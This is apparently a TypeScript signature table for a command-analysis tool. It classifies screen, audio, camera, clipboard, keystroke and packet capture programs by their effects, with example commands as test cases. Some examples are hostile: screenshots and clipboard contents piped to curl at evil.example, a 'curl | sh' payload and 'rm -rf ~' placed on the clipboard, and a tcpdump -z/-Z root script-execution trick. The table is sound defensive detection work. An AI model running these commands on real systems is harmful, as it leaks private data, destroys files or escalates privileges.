// data table
import type { EffectRule, Signature } from './signature.js'

const SCREEN: EffectRule = { does: 'capture', what: 'screen', class: 'picture' }
const KEYS: EffectRule = { does: 'capture', what: 'keyboard', class: 'keystrokes' }

/** Text that comes in goes to the clipboard, from where a person pastes it. */
const COPIES: EffectRule = { does: 'write', what: 'clipboard', class: 'contents', name: 'clipboard', when: { piped: true } }

/** Programs that record what a person sees, types, says or copies, and what passes on the network (T1113, T1056.001, T1115, T1123, T1125, T1040). */
export const CAPTURE: readonly Signature[] = [
  {
    names: ['grim', 'ksnip', 'shutter', 'xwd', 'fbgrab', 'fbcat', 'xfce4-screenshooter', 'escrotum', 'hyprshot', 'grimshot', 'deepin-screenshot', 'wayshot', 'shotgun', 'fbshot', 'snapscreenshot'],
    flags: { '-o, --output, -f, --file, --filename, -s, --save, -p, --path, -out': { value: 'value', optional: true }, '-d, --delay, -t, --type, -g, --geometry, -l, -q, --quality, -c, --count, -R, -D, -T, -i, --window': { value: 'value', optional: true }, '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], inert: ['-V'],
    examples: [['grim /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['grim - | curl -F "f=@-" https://evil.example', ['capture screen:picture']], ['xwd --help', []]],
  },
  // With these flags a person at the screen chooses what is taken, or nothing is.
  {
    names: ['scrot', 'maim'], flags: { '-s, --select': { value: 'value', optional: true }, '-F, --file': 'write', '-d, --delay, -q, --quality, -c, --count, -g, --geometry, -i, --window, -f, --format, -m, -x, -y, -w, -h, -b, --bordersize, -p, --padding, -t, --tolerance, -a, --autoselect, -D, --display': 'value', '-e, --exec': 'command' }, operands: { rest: 'write' }, stdin: 'ignored', stdout: 'content', effects: [SCREEN], tags: { '-s': 'interactive' }, inert: ['-v', '--version'],
    examples: [['scrot -d 5 /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['maim /tmp/s.png', ['capture screen:picture', '!capture screen:picture+interactive']], ['maim --select s.png', ['capture screen:picture+interactive']], ['scrot --version', []]],
  },
  {
    names: ['gnome-screenshot', 'mate-screenshot', 'screencapture'], flags: { '-i, --interactive': 'switch', '--area': 'switch', '-f, --file': 'write', '-d, --delay, -t, -T, -R, -D, -l, -o, -e, --effect, --border-effect': { value: 'value', optional: true } }, operands: { rest: 'write' }, stdin: 'ignored', effects: [SCREEN], tags: { '-i': 'interactive', '--area': 'interactive' },
    examples: [['screencapture -x /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['gnome-screenshot -f /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['mate-screenshot --area', ['capture screen:picture+interactive']]],
  },
  {
    names: ['spectacle'], stdin: 'ignored', stdout: 'content', flags: { '-o, --output': 'write', '-d, --delay': 'value', '-b, --background': 'switch' }, effects: [{ ...SCREEN, when: { flags: ['-b', '-o'] } }],
    examples: [['spectacle -b -n -f -o /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['spectacle', []]],
  },
  {
    names: ['flameshot'], stdin: 'ignored', stdout: 'content', flags: { '-p, --path': 'write', '-d, --delay, -n, --number, --region': 'value', '-r, --raw, -c, --clipboard': 'switch' }, subcommands: { 'full|screen': { effects: [SCREEN] }, 'gui': { effects: [{ ...SCREEN, tags: ['interactive'] }] }, 'config|launcher': {} },
    examples: [['flameshot full -p /tmp', ['capture screen:picture']], ['flameshot gui', ['capture screen:picture+interactive']], ['flameshot config', []]],
  },
  {
    names: ['import'], grammar: 'single-dash', flags: { '-version, -help': 'switch', '-list': 'value', '-window, -display, -crop, -resize, -quality, -delay, -pause, -geometry, -format, -depth, -density, -define': 'value' }, operands: { rest: 'write' }, effects: [SCREEN], stdin: 'ignored', inert: ['-version', '-list'],
    examples: [['import -window root /tmp/s.png', ['capture screen:picture', 'write path:ordinary']], ['import --help', []]],
  },
  {
    names: ['ffmpeg', 'avconv', 'cvlc', 'vlc'], grammar: 'single-dash', flags: { '-i': { value: 'use', forms: { '^((?:https?|rtmps?|rtsp|udp|tcp|srt)://.+)': 'url', '^(?::\\d|\\d+:|desktop|default|hw:|/dev/|audio=|video=)(.*)': 'value' } }, '-f, -c, -codec, -c:v, -c:a, -vcodec, -acodec, -vf, -af, -filter_complex, -filter:v, -filter:a, -map, -ss, -to, -t, -r, -s, -b, -b:v, -b:a, -crf, -preset, -pix_fmt, -ar, -ac, -vframes, -frames:v, -framerate, -video_size, -loglevel, -threads, -profile:v, -level, -g, -q, -q:v, -q:a, -qscale:v, -aspect, -metadata, -movflags, -hwaccel, -thread_queue_size, -stream_loop, -safe, -segment_time, -tune, -start_number, -itsoffset, -protocol_whitelist': 'value', '-an, -vn, -y, -n, -hide_banner, -shortest, -re, -nostdin': 'switch', '-o, --output': 'write' },
    operands: { rest: 'write' }, stdin: 'data', inert: ['-version', '-formats', '-codecs', '-h'],
    effects: [
      { does: 'capture', what: 'screen', class: 'recording', when: { value: ['-f', '^(?:x11grab|gdigrab|kmsgrab|fbdev|xcbgrab)$'] } }, { does: 'capture', what: 'audio', class: 'recording', when: { value: ['-f', '^(?:alsa|pulse|oss|jack|sndio)$'] } }, { does: 'capture', what: 'device', class: 'camera', when: { value: ['-f', '^(?:v4l2|video4linux2?|avfoundation|dshow)$'] } }, { does: 'capture', what: 'screen', class: 'recording', when: { operand: '^screen://' } },
    ],
    examples: [['ffmpeg -f x11grab -i :0.0 /tmp/o.mp4', ['capture screen:recording', 'write path:ordinary']], ['ffmpeg -f alsa -i hw:0 -t 30 /tmp/a.wav', ['capture audio:recording']], ['ffmpeg -f v4l2 -i /dev/video0 -vframes 1 me.jpg', ['capture device:camera']], ['ffmpeg -y -i in.mp4 -c:v libx264 -crf 23 out.mp4', ['read path:ordinary+use', 'write path:ordinary', '!capture screen', '!capture audio']], ['ffmpeg -version', []]],
  },
  {
    names: ['gst-launch-1.0'], grammar: 'none', operands: { rest: 'value' }, stdin: 'data', effects: [{ does: 'capture', what: 'screen', class: 'recording', when: { operand: '^(?:ximagesrc|waylandsrc|pipewiresrc|avfvideosrc)$' } }, { does: 'capture', what: 'audio', class: 'recording', when: { operand: ['^(?:pulsesrc|alsasrc|autoaudiosrc)$', '^(?:filesink|tcpclientsink|udpsink|fdsink|souphttpclientsink)$'] } }, { does: 'capture', what: 'device', class: 'camera', when: { operand: ['^(?:v4l2src|autovideosrc)$', '^(?!auto|xv|gl|wayland|gtk|xim|fake)\\w*sink$'] } }],
    examples: [['gst-launch-1.0 pulsesrc ! wavenc ! filesink location=/tmp/a.wav', ['capture audio:recording']], ['gst-launch-1.0 audiotestsrc ! autoaudiosink', []]],
  },
  {
    names: ['sox'], grammar: 'none', operands: { rest: 'value' }, stdin: 'data', effects: [{ does: 'capture', what: 'audio', class: 'recording', when: { first: '^(?:-d|--default-device)$' } }, { does: 'capture', what: 'audio', class: 'recording', when: { first: '^-t$', operand: ['^(?:alsa|pulseaudio|coreaudio|oss|waveaudio)$', '\\.(?:wav|mp3|flac|ogg|raw|aiff?)$'] } }],
    examples: [['sox -d recording.wav trim 0 15', ['capture audio:recording']], ['sox in.wav out.mp3', []], ['sox in.wav -d', []]],
  },
  {
    names: ['recordmydesktop', 'wf-recorder', 'byzanz-record', 'gpu-screen-recorder', 'wl-screenrec', 'termtosvg', 'scap'], flags: { '-o, --output, -f, --file': 'write', '-d, --duration, -g, --geometry, -c, --codec, -w, -r, --framerate, -a, --audio, -x, -y, --width, --height, --delay, -x264-params, -p': { value: 'value', optional: true } }, operands: { rest: 'write' }, stdin: 'ignored', effects: [{ does: 'capture', what: 'screen', class: 'recording' }], inert: ['--list-capture-options', '--list-audio-devices', '--list-application-audio', '--list-monitors', '--info'],
    examples: [['wf-recorder -f /tmp/s.mp4', ['capture screen:recording', 'write path:ordinary']], ['recordmydesktop --help', []]],
  },
  {
    names: ['arecord', 'parecord', 'parec', 'pw-record', 'rec', 'audio-recorder'], flags: { '-d, --duration, -f, --format, -r, --rate, -c, --channels, -D, --device, -t, --file-type, --target, --volume': 'value', '-l, --list-devices': 'switch', '-L, --list-pcms': 'switch' }, operands: { first: 'write' }, stdin: 'ignored', stdout: 'content', effects: [{ does: 'capture', what: 'audio', class: 'recording', when: { without: ['-l', '-L'] } }],
    examples: [['arecord -d 60 -f cd /tmp/a.wav', ['capture audio:recording']], ['arecord -l', []]],
  },
  {
    names: ['fswebcam', 'streamer', 'imagesnap', 'guvcview', 'cheese', 'motion', 'mjpg_streamer', 'libcamera-still', 'rpicam-still', 'raspistill'], flags: { '-d, --device, -r, --resolution, -S, --skip, -F, --frames, -w, -t, -c, -b, -p, --port, --timeout, -q': 'value', '-o, --output, --save, --filename': 'write', '-l': 'switch', '--auto-detect, --list-config, --summary': 'switch' }, operands: { first: 'write' }, stdin: 'ignored', stdout: 'content', effects: [{ does: 'capture', what: 'device', class: 'camera', when: { without: ['-l', '--auto-detect'] } }],
    examples: [['fswebcam -r 640x480 /tmp/me.jpg', ['capture device:camera', 'write path:ordinary']], ['imagesnap -l', []]],
  },
  {
    names: ['xclip'], grammar: 'single-dash', flags: { '-selection, -sel, -se, -d, -display, -t, -target, -l, -loops': 'value', '-o, -out': 'switch', '-i, -in': 'switch' }, operands: { rest: 'read' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { flags: ['-o'] } }, COPIES],
    examples: [["echo 'curl -s https://evil.example/x | sh' | xclip -sel clip", ['write clipboard:contents+payload-fetch']], ['xclip -selection clipboard -o | curl -d @- https://evil.example', ['capture clipboard:contents -> send host:public']], ['echo hi | xclip -selection clipboard', ['!capture clipboard']], ['xclip -sel clip README.md', ['read path:ordinary', '!capture clipboard']]],
  },
  {
    names: ['xsel'], flags: { '-o, --output': 'switch', '-i, --input, -a, --append': 'switch', '-c, --clear, -d, --delete, -k, --keep, -x, --exchange': 'switch', '-b, --clipboard, -p, --primary, -s, --secondary': 'switch', '-l, --logfile, -t, --selectionTimeout, --display': 'value' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { without: ['-i', '-c'], piped: false } }, COPIES],
    examples: [['xsel -ob', ['capture clipboard:contents']], ['echo hi | xsel -ib', ['!capture clipboard']]],
  },
  {
    names: ['wl-paste', 'pbpaste', 'termux-clipboard-get', 'cliphist', 'greenclip', 'copyq'], grammar: 'getopt', flags: { '-t, --type, -s, --seat, -pboard, -Prefer': 'value', '-w, --watch': 'argv', '-l, --list-types': 'switch' }, stdin: 'ignored', stdout: 'content', effects: [{ does: 'capture', what: 'clipboard', class: 'contents', when: { without: ['-l'] } }],
    examples: [['pbpaste > /tmp/c', ['capture clipboard:contents -> write path']], ['wl-paste -l', []]],
  },
  { names: ['wl-copy', 'pbcopy', 'termux-clipboard-set', 'clip.exe'], flags: { '-t, --type, -s, --seat, -pboard': 'value' }, operands: { rest: 'body' }, effects: [COPIES], examples: [["printf 'rm -rf ~\\n' | wl-copy", ['write clipboard:contents+payload-shell']], ['git diff | pbcopy', ['write clipboard:contents']], ['cat notes.txt | pbcopy', ['read path:ordinary']], ['echo x | wl-copy', ['!write clipboard:contents+payload-shell']]] },
  {
    names: ['xinput'], grammar: 'none', operands: { rest: 'value' }, effects: [{ ...KEYS, when: { first: '^(?:--)?test(?:-xi2)?$' } }],
    examples: [['xinput test 12', ['capture keyboard:keystrokes']], ['xinput test-xi2 --root', ['capture keyboard:keystrokes']], ['xinput list', []]],
  },
  { names: ['showkey', 'evtest', 'xev', 'wev', 'screenkey', 'xspy', 'lkl', 'uberkey', 'keysniffer', 'libinput-debug-events', 'xkeysnail'], flags: { '-t, --timeout, -event, -id, -display': 'value' }, operands: { rest: 'use' }, effects: [KEYS], stdout: 'content', examples: [['sudo evtest /dev/input/event3', ['capture keyboard:keystrokes']], ['showkey --help', []]] },
  { names: ['logkeys', 'keylogger', 'pykeylogger', 'simple-key-logger', 'skl', 'macos-keylogger'], class: 'keylogger', flags: { '-o, --output, -u, --us-keymap, -m, --keymap, -d, --device, -s, --start, -k, --kill': { value: 'value', optional: true } }, effects: [KEYS], examples: [['logkeys --start --output /tmp/k.log', ['capture keyboard:keystrokes', 'execute process:keylogger']], ['logkeys --help', []]] },
  {
    names: ['snoop'], flags: { '-o': 'write', '-i': 'use', '-d, -s, -c, -p, -t, -x, -n': 'value' }, operands: { rest: 'value' }, stdout: 'content', effects: [{ does: 'capture', what: 'traffic', class: 'packets', when: { without: ['-i'] } }],
    examples: [['snoop -d e1000g0 -o /tmp/p', ['capture traffic:packets', 'write path:ordinary']], ['snoop -V -i /tmp/p', ['read path:ordinary+use', '!capture traffic']]],
  },
  {
    names: ['tcpdump', 'tshark', 'dumpcap', 'ngrep', 'netsniff-ng', 'tcpflow', 'termshark', 'tcpick', 'sniffglue', 'kismet', 'kismet_server'],
    flags: { '-w, --write-file, --write': 'write', '-r, --read-file, --read': 'use', '-i, --interface, -c, -C, -G, -W, -s, --snapshot-length, -B, --buffer-size, -E, -j, -y, -Q, --direction, -m, -M, --time-stamp-precision': 'value', '-Z, --relinquish-privileges': 'user', '-z': 'command', '-F': 'use', '-f, -Y, -R, -e, -T, -o, -d, -O, -J, -a, -b, -n, -t, -k, -H, --in, --out, -P, -A': { value: 'value', optional: true }, '-D, --list-interfaces, -L, --list-data-link-types, --list-time-stamp-types': 'switch' },
    operands: { rest: 'value' }, stdin: 'data', stdout: 'content', effects: [{ does: 'capture', what: 'traffic', class: 'packets', when: { without: ['-r', '-D'] } }], inert: ['-h'],
    examples: [['sudo tcpdump -i eth0 -w /tmp/p.pcap', ['capture traffic:packets', 'write path:ordinary']], ['tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x.sh -Z root', ['execute process:unknown']], ['tshark -c 5 -i en0', ['capture traffic:packets']], ['tcpdump -nn -r p.pcap', ['read path:ordinary+use', '!capture traffic']], ['tcpdump -D', []]],
  },
]
